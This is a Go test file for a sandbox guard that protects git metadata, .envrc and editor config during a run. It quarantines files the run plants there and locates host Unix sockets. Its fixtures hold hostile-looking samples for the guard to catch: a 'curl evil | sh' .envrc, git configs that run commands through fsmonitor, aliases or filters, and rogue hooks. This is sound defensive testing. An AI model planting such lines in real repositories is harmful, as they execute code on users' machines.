package sandbox

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
)

func mkfile(t *testing.T, p, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestGuardFindsProtectedPaths(t *testing.T) {
	ws := t.TempDir()
	mkfile(t, filepath.Join(ws, ".git/config"), "[core]\n\thooksPath = .husky\n")
	mkfile(t, filepath.Join(ws, ".git/hooks/pre-commit.sample"), "")
	mkfile(t, filepath.Join(ws, ".husky/pre-commit"), "")
	mkfile(t, filepath.Join(ws, ".envrc"), "")
	mkfile(t, filepath.Join(ws, "vendor/lib/.git/config"), "")                        // nested repository
	mkfile(t, filepath.Join(ws, "sub"+"/mod/.git"), "gitdir: ../../.git/modules/mod") // submodule pointer
	mkfile(t, filepath.Join(ws, ".gitmodules"), "[submodule \"mod\"]\n\tpath = sub/mod\n")
	mkfile(t, filepath.Join(ws, ".git/modules/mod/config"), "")
	mkfile(t, filepath.Join(ws, "node_modules/pkg/.git/config"), "") // every depth: an editor opens these too
	mkfile(t, filepath.Join(ws, "a/b/c/.git/config"), "")
	mkfile(t, filepath.Join(ws, "a/b/.envrc"), "")
	g, err := protect(ws, []string{ws}, treeStore{}, time.Now(), nil)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, p := range g.paths {
		rel, _ := filepath.Rel(ws, p.Path)
		if p.Pin {
			rel += " (pin)"
		}
		got = append(got, rel)
	}
	for _, want := range []string{".git (pin)", ".git/hooks", ".git/config", ".husky", ".envrc",
		"vendor/lib/.git (pin)", "vendor/lib/.git/config", "sub/mod/.git", ".git/modules/mod/config",
		"node_modules/pkg/.git (pin)", "a/b/c/.git (pin)", "a/b/c/.git/config", "a/b/.envrc"} {
		if !slices.Contains(got, want) {
			t.Errorf("protected paths %q lack %q", got, want)
		}
	}
	for i, p := range got {
		if slices.Contains(got[:i], p) {
			t.Errorf("%s is protected twice: %q", p, got)
		}
	}
	for _, p := range g.paths {
		if p.Ino == 0 {
			t.Errorf("%s is not pinned to its inode", p.Path)
		}
	}
	for _, name := range []string{".mcp.json", ".vscode", ".bashrc"} {
		if !slices.ContainsFunc(g.watched, func(w watch) bool { return w.path == filepath.Join(ws, name) }) {
			t.Errorf("watched %v lacks the missing %s", g.watched, name)
		}
	}
	// .git/commondir is missing in a normal repository: a placeholder
	// holds it, pointing Git at its own directory, until release.
	cd := filepath.Join(ws, ".git/commondir")
	if b, err := os.ReadFile(cd); err != nil || string(b) != ".\n" {
		t.Errorf("commondir placeholder = %q, %v; want \".\\n\"", b, err)
	}
	if !slices.Contains(got, ".git/commondir") {
		t.Errorf("protected paths %q lack the commondir placeholder", got)
	}
	g.release()
	if _, err := os.Lstat(cd); err == nil {
		t.Error("release left the commondir placeholder behind")
	}
}

// Two runs in one repository share the placeholders: the first to finish
// must not pull them from under the other.
func TestPlaceholdersSharedByConcurrentRuns(t *testing.T) {
	ws := t.TempDir()
	mkfile(t, filepath.Join(ws, ".git/config"), "")
	a, err := protect(ws, []string{ws}, treeStore{}, time.Now(), nil)
	if err != nil {
		t.Fatal(err)
	}
	b, err := protect(ws, []string{ws}, treeStore{}, time.Now(), nil)
	if err != nil {
		t.Fatal(err)
	}
	hooks := filepath.Join(ws, ".git/hooks")
	a.release()
	if _, err := os.Stat(hooks); err != nil {
		t.Fatalf("the first run's release removed a placeholder the second still holds: %v", err)
	}
	b.release()
	if _, err := os.Stat(hooks); err == nil {
		t.Error("the last release left the hooks placeholder behind")
	}
}

// A protected name that is a symlink cannot carry a mount: its target is
// protected when writable, and replacing the link is undone.
func TestGuardSymlinkedName(t *testing.T) {
	ws := t.TempDir()
	mkfile(t, filepath.Join(ws, "shared/vscode/settings.json"), "{}")
	if err := os.Symlink("shared/vscode", filepath.Join(ws, ".vscode")); err != nil {
		t.Fatal(err)
	}
	g, err := protect(ws, []string{ws}, treeStore{}, time.Now(), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer g.release()
	if !slices.ContainsFunc(g.paths, func(p protectedPath) bool { return p.Path == filepath.Join(ws, "shared/vscode") }) {
		t.Errorf("the symlink's target in the workspace is not protected: %+v", g.paths)
	}
	os.Remove(filepath.Join(ws, ".vscode"))
	mkfile(t, filepath.Join(ws, ".vscode/tasks.json"), "evil")
	moved, _ := g.afterRun(time.Unix(1700000000, 0))
	if len(moved) != 1 || moved[0].Path != filepath.Join(ws, ".vscode") {
		t.Errorf("quarantined %+v; want the directory that replaced the .vscode symlink", moved)
	}
}

// The quarantine runs with the caller's rights on paths the command made:
// a symlink planted there must be moved, never followed.
func TestQuarantineNeverFollowsSymlinks(t *testing.T) {
	ws, outside := t.TempDir(), t.TempDir()
	mkfile(t, filepath.Join(outside, "precious"), "keep me")
	g, err := protect(ws, []string{ws}, treeStore{}, time.Now(), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer g.release()
	mkfile(t, filepath.Join(ws, ".git/config"), "")
	if err := os.Symlink(outside, filepath.Join(ws, ".git/hooks")); err != nil {
		t.Fatal(err)
	}
	moved, _ := g.afterRun(time.Unix(1700000000, 0))
	if b, err := os.ReadFile(filepath.Join(outside, "precious")); err != nil || string(b) != "keep me" {
		t.Fatalf("a file outside the workspace was touched through a symlink: %q, %v", b, err)
	}
	if len(moved) != 1 || moved[0].Path != filepath.Join(ws, ".git/hooks") {
		t.Errorf("quarantined %+v; want only the .git/hooks symlink itself", moved)
	}
}

// A repository made during the run loses a config that would run commands.
func TestQuarantineExecutingConfig(t *testing.T) {
	for config, moved := range map[string]bool{
		"[core]\n\tbare = false\n":          false,
		"[core]\n\tfsmonitor = /tmp/evil\n": true,
		"[alias]\n\tst = !sh -c evil\n":     true,
		"[include]\n\tpath = ../evil.cfg\n": true,
		"[filter \"x\"]\n\tsmudge = evil\n": true,
	} {
		ws := t.TempDir()
		g, err := protect(ws, []string{ws}, treeStore{}, time.Now(), nil)
		if err != nil {
			t.Fatal(err)
		}
		mkfile(t, filepath.Join(ws, ".git/config"), config)
		got, _ := g.afterRun(time.Unix(1700000000, 0))
		g.release()
		did := slices.ContainsFunc(got, func(q Quarantined) bool { return strings.HasSuffix(q.Path, ".git/config") })
		if did != moved {
			t.Errorf("new repository with config %q: config moved aside = %v; want %v", config, did, moved)
		}
	}
}

// What the run created at a watched name is moved aside; a new .git keeps
// its repository but loses hooks other than git's samples.
func TestGuardQuarantines(t *testing.T) {
	ws := t.TempDir()
	g, err := protect(ws, []string{ws}, treeStore{}, time.Now(), nil)
	if err != nil {
		t.Fatal(err)
	}
	mkfile(t, filepath.Join(ws, ".envrc"), "curl evil | sh")
	mkfile(t, filepath.Join(ws, ".vscode/tasks.json"), "{}")
	mkfile(t, filepath.Join(ws, ".git/config"), "")
	mkfile(t, filepath.Join(ws, ".git/commondir"), "../../evil")
	mkfile(t, filepath.Join(ws, ".git/hooks/post-checkout"), "evil")
	mkfile(t, filepath.Join(ws, ".git/hooks/pre-push.sample"), "")
	mkfile(t, filepath.Join(ws, "normal.txt"), "")
	moved, warnings := g.afterRun(time.Unix(1700000000, 0))
	var from []string
	for _, q := range moved {
		from = append(from, strings.TrimPrefix(q.Path, ws+"/"))
		if _, err := os.Lstat(q.MovedTo); err != nil {
			t.Errorf("%s was not moved to %s: %v", q.Path, q.MovedTo, err)
		}
		if _, err := os.Lstat(q.Path); err == nil {
			t.Errorf("%s still exists after quarantine", q.Path)
		}
	}
	slices.Sort(from)
	if want := []string{".envrc", ".git/commondir", ".git/hooks/post-checkout", ".vscode"}; !slices.Equal(from, want) {
		t.Errorf("quarantined %q; want %q", from, want)
	}
	for _, keep := range []string{".git/config", ".git/hooks/pre-push.sample", "normal.txt"} {
		if _, err := os.Lstat(filepath.Join(ws, keep)); err != nil {
			t.Errorf("%s was touched: %v", keep, err)
		}
	}
	if len(warnings) != len(moved) {
		t.Errorf("%d warnings for %d quarantined paths", len(warnings), len(moved))
	}
}

func TestHostSockets(t *testing.T) {
	dir := t.TempDir()
	sock := filepath.Join(dir, "app.sock")
	l, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	link := filepath.Join(t.TempDir(), "link")
	os.Symlink(dir, link)
	plain := filepath.Join(dir, "plain")
	mkfile(t, plain, "")
	table := "Num       RefCount Protocol Flags    Type St Inode Path\n" +
		"0000000000000000: 00000002 00000000 00010000 0001 01 11111 " + sock + "\n" +
		"0000000000000000: 00000002 00000000 00010000 0001 01 22222 " + filepath.Join(link, "app.sock") + "\n" +
		"0000000000000000: 00000002 00000000 00010000 0001 01 33333 @abstract\n" +
		"0000000000000000: 00000003 00000000 00000000 0001 03 44444\n" +
		"0000000000000000: 00000002 00000000 00010000 0001 01 55555 " + plain + "\n" +
		"0000000000000000: 00000002 00000000 00010000 0001 01 66666 relative.sock\n"
	got, lost := hostSockets(strings.NewReader(table), t.TempDir())
	if !slices.Equal(got, []string{sock}) {
		t.Errorf("hostSockets = %q; want only %q (resolved, deduplicated, real sockets)", got, sock)
	}
	if !slices.Equal(lost, []string{"relative.sock"}) {
		t.Errorf("hostSockets lost %q; want the relative path it could not locate", lost)
	}
}

// A socket bound with a relative path is found through the working
// directory of the process holding it.
func TestHostSocketsRelative(t *testing.T) {
	dir := t.TempDir()
	l, err := net.Listen("unix", filepath.Join(dir, "rel.sock"))
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	raw, _ := l.(*net.UnixListener).SyscallConn()
	var inode uint64
	raw.Control(func(fd uintptr) {
		var st syscall.Stat_t
		syscall.Fstat(int(fd), &st)
		inode = st.Ino
	})
	// A fake /proc: one process holding the socket, its cwd in dir.
	proc := t.TempDir()
	os.MkdirAll(filepath.Join(proc, "4242", "fd"), 0o755)
	os.Symlink(fmt.Sprintf("socket:[%d]", inode), filepath.Join(proc, "4242", "fd", "3"))
	os.Symlink(dir, filepath.Join(proc, "4242", "cwd"))
	table := "Num RefCount Protocol Flags Type St Inode Path\n" +
		fmt.Sprintf("0000000000000000: 00000002 00000000 00010000 0001 01 %d rel.sock\n", inode)
	got, lost := hostSockets(strings.NewReader(table), proc)
	if want := filepath.Join(dir, "rel.sock"); !slices.Equal(got, []string{want}) || len(lost) != 0 {
		t.Errorf("hostSockets = %q, lost %q; want %q", got, lost, want)
	}
}

// A socket seen through a bind mount of its directory has a second path;
// both must be covered. A hard link stands in for the bind mount here: the
// same inode at the alias path.
func TestSocketAliases(t *testing.T) {
	dir := t.TempDir()
	real, alias := filepath.Join(dir, "real"), filepath.Join(dir, "alias")
	os.MkdirAll(real, 0o755)
	os.MkdirAll(alias, 0o755)
	l, err := net.Listen("unix", filepath.Join(real, "s.sock"))
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	if err := os.Link(filepath.Join(real, "s.sock"), filepath.Join(alias, "s.sock")); err != nil {
		t.Fatal(err)
	}
	mounts := parseMountinfo(strings.NewReader(
		"22 1 8:1 / / rw - ext4 /dev/vda rw\n" +
			"40 22 8:1 " + strings.ReplaceAll(real, " ", "\\040") + " " + alias + " rw - ext4 /dev/vda rw\n" +
			"41 22 0:5 / " + alias + "/other rw - tmpfs tmpfs rw\n"))
	got := sameFileElsewhere([]hostPath{{Path: filepath.Join(real, "s.sock")}}, mounts)
	if want := []hostPath{{Path: filepath.Join(alias, "s.sock")}}; !slices.Equal(got, want) {
		t.Errorf("sameFileElsewhere = %v; want %v", got, want)
	}
	if u := unescapeMount(`/a\040b\134c`); u != `/a b\c` {
		t.Errorf("unescapeMount = %q", u)
	}
}
